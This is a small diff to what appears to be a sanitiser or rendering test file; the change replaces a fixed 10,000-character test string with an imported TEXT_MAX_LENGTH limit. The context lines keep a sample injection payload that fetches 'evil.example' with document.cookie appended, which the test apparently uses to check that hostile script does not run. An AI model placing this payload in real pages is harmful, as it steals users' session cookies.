@@ -1,3 +1,5 @@
+import { TEXT_MAX_LENGTH } from "../../src/core/limits.ts";
+
 /** What HTML, scripts and styles would run: each sets `__ran` or asks another host if somebody lets it. */
 const ASK = "fetch('https://evil.example/'+document.cookie)";
 
@@ -103,7 +105,7 @@ const DIRECTIONS = [
 ];
 
 const SHAPES = [
-  "a".repeat(10_000),
+  "a".repeat(TEXT_MAX_LENGTH),
   "W".repeat(300),
   "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(200),
   "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}",
